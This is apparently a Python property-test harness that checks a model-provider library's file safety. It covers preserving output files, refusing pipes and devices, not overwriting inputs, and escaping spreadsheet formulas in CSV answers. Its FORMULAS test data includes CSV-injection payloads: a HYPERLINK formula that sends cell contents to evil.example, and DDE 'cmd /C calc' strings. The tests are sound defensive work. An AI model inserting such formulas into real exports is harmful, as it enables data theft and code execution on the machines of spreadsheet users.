"""Files of users: what they were stays, what is somebody else's stays, inputs are never outputs, what is no file is refused at once."""

from __future__ import annotations

import csv
import logging
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from random import Random
from typing import Any

from benchmarks.attack.kit import Hung, memory, within
from inference_providers import InferenceProvidersError, ProviderList

PATIENCE = 3.0  # seconds after which something that is to be refused at once hangs
MODES = [0o600, 0o640, 0o604, 0o644, 0o660, 0o666, 0o400]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "=cmd|'/C calc'!A1", "\n=1+1", '"=1+1', "+1+A1", "-A1", "@x"]  # fmt: skip
PLAIN = ["no formula", "1.5", "-3", "+4.25e3", "a=b", "-12,5 %", "", "2+2"]


class _Warnings(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.WARNING)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


def _batch(questions: Any, out: Path, answer: Any = None, **options: Any) -> list[str | None]:
    """A batch whose answers repeat the questions."""
    said = answer or (lambda messages: f"re: {messages[-1]['content']}")
    made = ProviderList(mock={"m": said}, local=False).batch(questions, "m", out=out, progress=False, **options)
    return [str(result.answer) if result.ok else None for result in made]


def _foreign(dice: Random) -> bytes:
    """A line that no batch wrote, though it may look like one."""
    digits = "".join(dice.choice("0123456789abcdef") for _ in range(16))
    return dice.choice([
        f"# note {digits}\n", f'{{"my": "row", "key": "{digits}"}}\n', f'{{"id": "{digits}", "text": "x"}}\n', f'{{"index": 0, "answer": "x", "key": "{digits}", "error": null}}\n',
        f'{{"index": 3, "id": "{digits}", "label": "cat"}}\n', '{"index": 1, "error": {"type": "E", "message": "mine"}}\n', f"[{digits!r}]\n", "\x85\n", f'{{"id": "batch_req_{digits}", "custom_id": null, "response": {{}}, "error": null}}\n',
    ]).encode()  # fmt: skip


def rewritten(dice: Random, folder: Path) -> Iterator[str | None]:
    """An output of any mode, by links or not, with lines of others in it, is written anew for one of the reasons there are."""
    number = 0
    while True:
        number += 1
        place = folder / str(number)
        place.mkdir()
        real = place / "real.jsonl"
        out = place / "out.jsonl" if dice.random() < 0.5 else real
        if out != real:
            out.symlink_to(dice.choice([real, Path("real.jsonl")]))
        _batch(["a", "b", "c"], out)
        ours = real.read_bytes().splitlines(keepends=True)
        others = [_foreign(dice) for _ in range(dice.choice([0, 0, 1, 2]))]
        for line in others:
            ours.insert(dice.randrange(len(ours)), line)
        cut = dice.randint(1, 20) if dice.random() < 0.5 else 0
        content = b"".join(ours)
        real.write_bytes(content[: len(content) - cut])
        mode = dice.choice(MODES[:-1])
        real.chmod(mode)
        questions = dice.choice([["a", "b", "c"], ["c", "a", "b"], ["b"], ["d", "c"]])
        said: Any = None
        try:
            with within(PATIENCE * 5):
                said = _batch(questions, out)
        except (InferenceProvidersError, ValueError, OSError, Hung) as error:
            said = error
        yield _kept(said, questions, out, real, mode, others)
        for path in place.iterdir():
            path.unlink()
        place.rmdir()


def _kept(said: Any, questions: list[str], out: Path, real: Path, mode: int, others: list[bytes]) -> str | None:
    """What was lost, or became readable."""
    if said != [f"re: {question}" for question in questions]:
        return f"the answers to {questions} are {said!r}"
    if out != real and not out.is_symlink():
        return "a link was replaced by a file"
    if (now := stat.S_IMODE(real.stat().st_mode)) != mode:
        return f"mode {mode:04o} became {now:04o}"
    content = real.read_bytes()
    lost = [line for line in others if line not in content]
    left = {path.name for path in real.parent.iterdir()} - {real.name, out.name}
    return f"a line was lost: {lost[0]!r}" if lost else f"left beside it: {left}" if left else None


def _special(dice: Random, folder: Path) -> Path:
    """Something that is no regular file, perhaps behind a link."""
    kind = dice.choice(["fifo", "fifo", "folder", "/dev/zero", "/dev/full", "/dev/null"])
    path = folder / f"odd-{dice.getrandbits(32):x}"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path = Path(kind)
    if dice.random() < 0.4:
        link = folder / f"link-{dice.getrandbits(32):x}.jsonl"
        link.symlink_to(path)
        return link
    return path


def special(dice: Random, folder: Path) -> Iterator[str | None]:
    """Pipes, devices and folders where a regular file belongs: a clear error, and no waiting."""
    from inference_providers.testing.cassette import REPLAY, Cassette

    def as_output(path: Path) -> Any:
        return _batch(["a"], path)

    def as_image(path: Path) -> Any:
        return ProviderList(mock={"m": "x"}, local=False).ask_ai("hi", "m", images=[path])

    def as_registry(path: Path) -> Any:
        return ProviderList(json_override=path, environ={}, local=False)

    def as_model(path: Path) -> Any:
        return ProviderList(environ={}, local_models=[str(path)]).ask_ai("hi", f"llama.cpp/{path}", timeout=1)

    def as_tape(path: Path) -> Any:
        return Cassette(path, REPLAY)

    def as_table(path: Path) -> Any:
        table = folder / f"t-{dice.getrandbits(32):x}.csv"
        Path(f"{table}.jsonl").symlink_to(path)
        return _batch(["a"], table)

    ways = [as_output, as_output, as_image, as_registry, as_model, as_tape, as_table]
    while True:
        path, way = _special(dice, folder), dice.choice(ways)
        said = None
        try:
            with within(PATIENCE), memory(512 * 1024 * 1024):
                way(path)
            said = f"{way.__name__}: {path} was taken"
        except (InferenceProvidersError, OSError, ValueError):
            said = None
        except Hung:
            said = f"{way.__name__}: {path} hangs"
        except Exception as error:  # noqa: BLE001  (no error of that kind is clear)
            said = f"{way.__name__}: {path}: {error!r}"
        yield said


def inputs(dice: Random, folder: Path) -> Iterator[str | None]:
    """The input lies where a batch would write, under its own name or by a link: it is refused, and holds what it held."""
    number = 0
    while True:
        number += 1
        place = folder / str(number)
        place.mkdir()
        out = place / dice.choice(["x.csv", "x.jsonl", "X.CSV"])
        taken = place / dice.choice([out.name, f"{out.name}.jsonl", f"{out.name}.jobs", f"{out.name}.jsonl.jobs"])
        content = b"prompt\nhello\n" if taken.suffix.lower() == ".csv" else b'{"prompt": "hello"}\n{"prompt": "more"}\n'
        taken.write_bytes(content)
        source = taken
        if dice.random() < 0.4:
            source = place / f"given{taken.suffix}"
            source.symlink_to(taken) if dice.random() < 0.5 else source.hardlink_to(taken)
        mode = dice.choice(["direct", "auto"])
        try:
            with within(PATIENCE * 3):
                _batch(source, out, resume=dice.random() < 0.5, mode=mode)
        except (InferenceProvidersError, ValueError, OSError, TypeError):
            pass
        yield None if taken.read_bytes() == content else f"the input {taken.name} of {out.name} was changed"
        for path in place.iterdir():
            path.unlink()
        place.rmdir()


def formulas(dice: Random, folder: Path) -> Iterator[str | None]:
    """Answers that a spreadsheet would run are counted, and made text where that is wanted; the others stay as they are."""
    warnings, log = _Warnings(), logging.getLogger("inference_providers")
    log.addHandler(warnings)
    try:
        while True:
            bad = dice.random() < 0.7
            answer = dice.choice(FORMULAS if bad else PLAIN) or "x"
            escape = dice.random() < 0.5
            out = folder / f"{dice.getrandbits(48):x}.csv"
            warnings.lines.clear()
            _batch(["q"], out, lambda messages, answer=answer: answer, csv_formulas="escape" if escape else "keep")
            with open(out, encoding="utf-8", newline="") as file:
                (row,) = csv.DictReader(file)
            told = any("formula" in line for line in warnings.lines)
            wanted = f"'{answer}" if bad and escape else answer
            right = row["answer"] == wanted and told is (bad and not escape)
            yield None if right else f"{answer!r} became {row['answer']!r}, {'' if told else 'not '}told"
            out.unlink()
            Path(f"{out}.jsonl").unlink()
    finally:
        log.removeHandler(warnings)
